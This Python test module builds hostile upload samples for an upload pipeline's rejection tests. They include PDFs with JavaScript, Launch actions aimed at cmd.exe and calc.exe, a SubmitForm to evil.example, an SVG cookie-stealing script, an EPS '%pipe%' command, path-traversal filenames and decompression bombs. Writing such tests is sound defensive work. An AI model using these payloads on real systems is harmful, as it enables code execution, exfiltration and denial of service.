"""Hostile upload samples, built at test time (no binary fixtures in the repository).

`hostile_cases()` returns every sample with the outcome the upload pipeline must produce:
an `expected_code` of UploadRejected, or None when the file is accepted (then `expected_kind`
says what the content really is). Later suites (pages, mail room) import this module too.
"""

import zipfile
import zlib
from dataclasses import dataclass, field
from functools import cache
from io import BytesIO

import pillow_heif
from fpdf import FPDF
from PIL import ExifTags, Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter

from core.settings import get_settings


@dataclass(frozen=True)
class HostileCase:
    id: str
    filename: str
    data: bytes = field(repr=False)
    expected_code: str | None  # None: accepted after normalisation
    expected_kind: str | None = None  # for accepted cases: what the content is
    # Further files of the same submission: the case is about build_submission, not check_file.
    together_with: tuple[tuple[str, bytes], ...] = field(default=(), repr=False)


# --- building blocks --------------------------------------------------------------------------


def raw_pdf(objects: list[bytes], *, filler: int = 0) -> bytes:
    """A PDF with a correct xref table from object bodies; object 1 is the catalog.

    `filler` bytes of comment after the header make the file as large as a test needs.
    """
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    if filler:
        out += b"%" + b"x" * max(filler - 2, 0) + b"\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1)
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def pdf_stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), entries, data)


PAGE_TEXT = b"BT /F1 24 Tf 72 720 Td (Hallo HEK) Tj ET"


def one_page_pdf(
    *, catalog: bytes = b"", page: bytes = b"", extra: list[bytes] | None = None, filler: int = 0
) -> bytes:
    """Catalog (1), pages (2), page (3), content (4), then `extra` objects from number 5 on."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R %s>>" % page,
            pdf_stream(PAGE_TEXT),
            *(extra or []),
        ],
        filler=filler,
    )


def fpdf_document(pages: int = 1) -> bytes:
    document = FPDF()
    document.set_font("helvetica", size=14)
    for number in range(1, pages + 1):
        document.add_page()
        document.cell(text=f"Seite {number}")
    return bytes(document.output())


def padded_pdf(size: int) -> bytes:
    """A valid one-page PDF of exactly `size` bytes; a comment inside the page's content stream
    fills it up, so the filler is part of the document and survives re-writing."""
    filler = 0
    for _ in range(4):  # the numbers in the file may gain digits; converge on the exact size
        content = PAGE_TEXT + b"\n%" + b"x" * max(filler, 0)
        data = raw_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
                pdf_stream(content),
            ]
        )
        filler += size - len(data)
    assert len(data) == size, "size too small for a PDF"
    return data


def jpeg(
    size: tuple[int, int] = (64, 48), color: tuple[int, int, int] = (200, 30, 30), **save
) -> bytes:
    buffer = BytesIO()
    Image.new("RGB", size, color).save(buffer, format="JPEG", **save)
    return buffer.getvalue()


def noisy_jpeg(size: tuple[int, int] = (256, 256)) -> bytes:
    buffer = BytesIO()
    Image.effect_noise(size, 80).convert("RGB").save(buffer, format="JPEG", quality=95)
    return buffer.getvalue()


def png(
    size: tuple[int, int] = (64, 48), color: tuple[int, int, int] = (30, 30, 200), **save
) -> bytes:
    buffer = BytesIO()
    Image.new("RGB", size, color).save(buffer, format="PNG", **save)
    return buffer.getvalue()


def jpeg_with_gps(orientation: int = 6) -> bytes:
    """40x20 JPEG with GPS position, orientation, camera, ICC, comment: every kind of metadata."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "HEK-Testkamera"
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (52.0, 31.0, 12.0),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (13.0, 24.0, 36.0),
    }
    return jpeg((40, 20), exif=exif.tobytes(), icc_profile=b"fake-icc", comment=b"Wohnort: Berlin")


def png_with_text_chunks() -> bytes:
    info = PngInfo()
    info.add_text("Author", "Erika Mustermann")
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>GPS 52.5,13.4</x:xmpmeta>")
    return png(pnginfo=info)


def zip_archive() -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("evil.exe", b"MZ" + b"\x00" * 64)
    return buffer.getvalue()


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")


@cache
def pixel_flood_png(side: int = 12_000) -> bytes:
    """A 1-bit side x side PNG: 144 megapixels in about 20 KB."""
    header = side.to_bytes(4, "big") * 2 + bytes([1, 0, 0, 0, 0])  # 1-bit greyscale
    row = b"\x00" * (1 + (side + 7) // 8)
    compressor = zlib.compressobj(9)
    body = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", body)
        + _png_chunk(b"IEND", b"")
    )


def jpeg_claiming_dimensions(width: int, height: int) -> bytes:
    """A small JPEG whose frame header claims width x height (a decompression bomb header)."""
    data = bytearray(jpeg((16, 16)))
    marker = data.find(b"\xff\xc0")
    data[marker + 5 : marker + 9] = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    return bytes(data)


@cache
def flate_bomb_pdf(inflated_megabytes: int = 256) -> bytes:
    """A content stream of a few hundred KB that inflates to hundreds of MB of zeros."""
    compressor = zlib.compressobj(9)
    chunk = bytes(1024 * 1024)
    bomb = b"".join(compressor.compress(chunk) for _ in range(inflated_megabytes))
    bomb += compressor.flush()
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            pdf_stream(bomb, b"/Filter /FlateDecode "),
        ]
    )


@cache
def pdf_with_pages(count: int) -> bytes:
    """`count` pages sharing one content stream (object 3); pages are objects 4 and up."""
    kids = b" ".join(b"%d 0 R" % (4 + index) for index in range(count))
    pages = [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"] * count
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
            pdf_stream(PAGE_TEXT),
            *pages,
        ]
    )


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password="geheim", owner_password="geheim", algorithm="RC4-128")
    buffer = BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_garbage_xref() -> bytes:
    """Structurally complete, but every xref offset points 7 bytes into the wrong place."""
    data = one_page_pdf()
    head, rest = data.rsplit(b"\nxref\n", 1)
    lines = rest.split(b"\n")
    fixed = [
        b"%010d%s" % (int(line[:10]) + 7, line[10:])
        if len(line) == 19 and line.endswith(b" n ")
        else line
        for line in lines
    ]
    return head + b"\nxref\n" + b"\n".join(fixed)


def giant_page_pdf(side: int = 50_000) -> bytes:
    """About 435 bytes: one page of side x side points whose content fills it (found by an
    attacker: rendering its preview at scale 0.6 asked for a 900-megapixel bitmap)."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Contents 4 0 R >>" % (side, side),
            pdf_stream(b"0 0 %d %d re f" % (side, side)),
        ]
    )


def user_unit_giant_page_pdf() -> bytes:
    """An A4 box, but /UserUnit 100 makes each unit 100/72 inch: a page of 827 x 1169 inches."""
    return one_page_pdf(page=b"/UserUnit 100 ")


def pdf_with_image_claiming(width: int, height: int) -> bytes:
    """An A4 page drawing a small JPEG whose header and /Width, /Height claim width x height."""
    image = jpeg_claiming_dimensions(width, height)
    return one_page_pdf(
        page=b"/Resources << /XObject << /Im1 5 0 R >> >> ",
        extra=[
            pdf_stream(
                image,
                b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB "
                b"/BitsPerComponent 8 /Filter /DCTDecode " % (width, height),
            )
        ],
    )


@cache
def megapixel_png(width: int = 10_000, height: int = 5_000) -> bytes:
    """An RGB PNG of width x height (50 megapixels by default: 150 MB decoded) in about 150 KB;
    every row is the same colour ramp."""
    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 2, 0, 0, 0])
    row = b"\x00" + bytes(index * 7 % 256 for index in range(width * 3))
    compressor = zlib.compressobj(6)
    body = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", body)
        + _png_chunk(b"IEND", b"")
    )


def bmp_claiming(width: int, height: int) -> bytes:
    """A 54-byte BMP header claiming width x height at 24 bits, with no pixels behind it."""
    header = bytearray(b"BM" + (54).to_bytes(4, "little") + bytes(4) + (54).to_bytes(4, "little"))
    header += (40).to_bytes(4, "little") + width.to_bytes(4, "little", signed=True)
    header += height.to_bytes(4, "little", signed=True) + (1).to_bytes(2, "little")
    header += (24).to_bytes(2, "little") + bytes(24)
    return bytes(header)


def multi_page_tiff(pages: int, size: tuple[int, int] = (120, 160)) -> bytes:
    """A scan of `pages` pages; page n is grey level 40 * n (so tests can tell them apart)."""
    frames = [Image.new("L", size, (40 * number) % 256) for number in range(1, pages + 1)]
    buffer = BytesIO()
    frames[0].save(buffer, format="TIFF", save_all=True, append_images=frames[1:])
    return buffer.getvalue()


def webp_with_gps() -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "HEK-Testkamera"
    exif[ExifTags.IFD.GPSInfo] = {ExifTags.GPS.GPSLatitude: (52.0, 31.0, 12.0)}
    buffer = BytesIO()
    Image.new("RGB", (40, 30), (10, 120, 200)).save(buffer, format="WEBP", exif=exif.tobytes())
    return buffer.getvalue()


def encoded(format_: str, size=(64, 48), color=(20, 160, 20), mode="RGB", **save) -> bytes:
    """One image of `color` in any format Pillow writes (WEBP, AVIF, BMP, GIF, TIFF ...)."""
    buffer = BytesIO()
    Image.new(mode, size, color).save(buffer, format=format_, **save)
    return buffer.getvalue()


def animated_gif(colors=((220, 20, 20), (20, 180, 20), (20, 20, 220))) -> bytes:
    frames = [Image.new("RGB", (48, 32), color).convert("P") for color in colors]
    buffer = BytesIO()
    frames[0].save(buffer, format="GIF", save_all=True, append_images=frames[1:], duration=200)
    return buffer.getvalue()


def pdf_with_trailing_padding(padding: bytes = bytes(4096)) -> bytes:
    """Bytes after %%EOF, as some scanners and mail gateways append them."""
    return one_page_pdf() + padding


def pdf_encrypted_without_user_password() -> bytes:
    """Opens without a password; the owner password only restricts printing and copying."""
    writer = PdfWriter(clone_from=BytesIO(one_page_pdf()))
    writer.encrypt(user_password="", owner_password="chef", permissions_flag=0, algorithm="AES-128")
    buffer = BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def heic() -> bytes:
    pillow_heif.register_heif_opener()
    buffer = BytesIO()
    Image.new("RGB", (64, 48), (20, 160, 20)).save(buffer, format="HEIF", quality=80)
    return buffer.getvalue()


# --- the catalogue ----------------------------------------------------------------------------

JS_ACTION = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def hostile_cases() -> list[HostileCase]:
    settings = get_settings()
    max_file = settings.max_file_bytes
    copies_over_total = settings.max_submission_bytes // max_file + 1
    big_pdf = padded_pdf(max_file)
    a_pdf = fpdf_document(2)
    a_jpeg = noisy_jpeg()
    a_png = png()

    return [
        HostileCase("empty_file", "leer.pdf", b"", "empty_file"),
        HostileCase(
            "over_file_limit", "riesig.pdf", b"%PDF-1.7\n" + bytes(max_file - 8), "too_large"
        ),
        HostileCase(
            "submission_over_total_limit",
            "teil-1.pdf",
            big_pdf,
            "submission_too_large",
            together_with=tuple(
                (f"teil-{index}.pdf", big_pdf) for index in range(2, copies_over_total + 1)
            ),
        ),
        HostileCase("png_named_pdf", "scan.pdf", a_png, None, expected_kind="png"),
        HostileCase("exe_named_jpg", "foto.jpg", b"MZ\x90\x00" + bytes(200), "unsupported_type"),
        HostileCase(
            "elf_named_png", "bild.png", b"\x7fELF\x02\x01\x01" + bytes(200), "unsupported_type"
        ),
        HostileCase(
            "svg_with_script",
            "logo.svg",
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
            b"<script>alert(document.cookie)</script></svg>",
            "unsupported_type",
        ),
        HostileCase(
            "html_named_pdf",
            "rechnung.pdf",
            b"<!DOCTYPE html><html><body><script>fetch('/x')</script></body></html>",
            "unsupported_type",
        ),
        HostileCase(
            "path_traversal_name", "../../etc/passwd.pdf", a_pdf, None, expected_kind="pdf"
        ),
        HostileCase(
            "rtl_override_name", "Rechnung\u202egpj.exe", a_jpeg, None, expected_kind="jpeg"
        ),
        HostileCase(
            "control_characters_name", "scan\x00\r\n\x1b[2J.pdf", a_pdf, None, expected_kind="pdf"
        ),
        HostileCase(
            "truncated_pdf", "abgeschnitten.pdf", a_pdf[: len(a_pdf) * 2 // 3], "broken_pdf"
        ),
        HostileCase(
            "truncated_jpeg", "abgeschnitten.jpg", a_jpeg[: len(a_jpeg) // 2], "broken_file"
        ),
        HostileCase("encrypted_pdf", "geschuetzt.pdf", encrypted_pdf(), "encrypted_pdf"),
        HostileCase(
            "pdf_open_action_javascript",
            "brief.pdf",
            one_page_pdf(catalog=b"/OpenAction " + JS_ACTION + b" "),
            "javascript",
        ),
        HostileCase(
            "pdf_names_javascript",
            "brief.pdf",
            one_page_pdf(
                catalog=b"/Names << /JavaScript 5 0 R >> ",
                extra=[
                    b"<< /Names [(init) 6 0 R] >>",
                    JS_ACTION,
                ],
            ),
            "javascript",
        ),
        HostileCase(
            "pdf_launch_action_in_link",
            "brief.pdf",
            one_page_pdf(
                page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] "
                b"/A << /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >> >>] "
            ),
            "launch_action",
        ),
        HostileCase(
            "pdf_launch_action_name_escaped",
            "brief.pdf",
            one_page_pdf(catalog=b"/OpenAction << /S /L#61unch /F (cmd.exe) >> "),
            "launch_action",
        ),
        HostileCase(
            "pdf_annotation_additional_actions",
            "formular.pdf",
            one_page_pdf(
                page=b"/Annots [<< /Type /Annot /Subtype /Widget /Rect [0 0 100 100] "
                b"/AA << /E << /S /GoTo /D [3 0 R /Fit] >> >> >>] "
            ),
            "additional_actions",
        ),
        HostileCase(
            "pdf_open_action_submit_form",
            "formular.pdf",
            one_page_pdf(catalog=b"/OpenAction << /S /SubmitForm /F (https://evil.example) >> "),
            "active_content",
        ),
        HostileCase(
            "pdf_embedded_file",
            "brief.pdf",
            one_page_pdf(
                catalog=b"/Names << /EmbeddedFiles << /Names [(evil.exe) 5 0 R] >> >> ",
                extra=[
                    b"<< /Type /Filespec /F (evil.exe) /EF << /F 6 0 R >> >>",
                    pdf_stream(b"MZ" + bytes(64), b"/Type /EmbeddedFile "),
                ],
            ),
            "embedded_file",
        ),
        HostileCase("pdf_flate_bomb", "bombe.pdf", flate_bomb_pdf(), "pdf_bomb"),
        HostileCase("pdf_5000_pages", "dick.pdf", pdf_with_pages(5000), "too_many_pages"),
        # Repaired by qpdf, stored re-written with a right xref (tests/unit/test_formats.py).
        HostileCase(
            "pdf_xref_points_to_garbage",
            "kaputt.pdf",
            pdf_with_garbage_xref(),
            None,
            expected_kind="pdf",
        ),
        HostileCase(
            "pdf_after_junk_polyglot", "brief.pdf", b"JUNK" * 64 + a_pdf, "unsupported_type"
        ),
        HostileCase(
            "pdf_open_action_goto_is_harmless",
            "libreoffice.pdf",
            one_page_pdf(catalog=b"/OpenAction [3 0 R /XYZ null null 0] "),
            None,
            expected_kind="pdf",
        ),
        HostileCase("png_pixel_flood", "flut.png", pixel_flood_png(), "too_many_pixels"),
        HostileCase("pdf_page_50000pt", "plakat.pdf", giant_page_pdf(), "page_too_large"),
        HostileCase(
            "pdf_user_unit_giant_page", "plakat.pdf", user_unit_giant_page_pdf(), "page_too_large"
        ),
        HostileCase(
            "pdf_image_claims_60000x60000",
            "scan.pdf",
            pdf_with_image_claiming(60_000, 60_000),
            "pdf_image_too_large",
        ),
        HostileCase(
            "png_50_megapixels_is_scaled_down",
            "screenshot.png",
            megapixel_png(),
            None,
            expected_kind="png",
        ),
        HostileCase(
            "jpeg_header_claims_65000x65000",
            "flut.jpg",
            jpeg_claiming_dimensions(65_000, 65_000),
            "too_many_pixels",
        ),
        # TIFF, GIF, WebP and AVIF are accepted formats now; these headers have no image behind.
        HostileCase(
            "tiff_named_jpg", "scan.jpg", b"II*\x00\x08\x00\x00\x00" + bytes(64), "broken_file"
        ),
        HostileCase(
            "eps_named_jpg",
            "logo.jpg",
            b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(%pipe%id) (w) file\n",
            "unsupported_type",
        ),
        HostileCase("zip_named_pdf", "unterlagen.pdf", zip_archive(), "unsupported_type"),
        HostileCase("gif", "animation.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "broken_file"),
        HostileCase(
            "webp", "foto.webp", b"RIFF\x1a\x00\x00\x00WEBPVP8 " + bytes(16), "broken_file"
        ),
        HostileCase(
            "avif_named_heic",
            "foto.heic",
            b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + bytes(32),
            "broken_file",
        ),
        HostileCase(
            "bigtiff", "scan.tif", b"II+\x00\x08\x00\x00\x00" + bytes(64), "unsupported_type"
        ),
        HostileCase(
            "text_starting_with_bm", "BMW.bmp", b"BMW Rechnung 2026\n" * 4, "unsupported_type"
        ),
        HostileCase(
            "gif_header_claims_65535x65535",
            "flut.gif",
            b"GIF89a\xff\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;",
            "too_many_pixels",
        ),
        HostileCase(
            "bmp_header_claims_60000x60000",
            "flut.bmp",
            bmp_claiming(60_000, 60_000),
            "too_many_pixels",
        ),
        HostileCase(
            "tiff_with_201_pages", "scan.tif", multi_page_tiff(201, (8, 8)), "too_many_pages"
        ),
        HostileCase("webp_with_gps_exif", "foto.webp", webp_with_gps(), None, expected_kind="webp"),
        HostileCase(
            "pdf_zip_in_unreferenced_object",
            "brief.pdf",
            one_page_pdf(extra=[pdf_stream(zip_archive())]),
            None,
            expected_kind="pdf",
        ),
        HostileCase(
            "pdf_zip_after_eof", "brief.pdf", a_pdf + zip_archive(), None, expected_kind="pdf"
        ),
        HostileCase(
            "heic_header_with_garbage",
            "foto.heic",
            b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\xde\xad" * 64,
            "broken_file",
        ),
        HostileCase(
            "jpeg_with_gps_exif", "urlaub.jpg", jpeg_with_gps(), None, expected_kind="jpeg"
        ),
        HostileCase(
            "png_with_text_chunks",
            "screenshot.png",
            png_with_text_chunks(),
            None,
            expected_kind="png",
        ),
        HostileCase(
            "jpeg_zip_polyglot", "foto.jpg", a_jpeg + zip_archive(), None, expected_kind="jpeg"
        ),
    ]
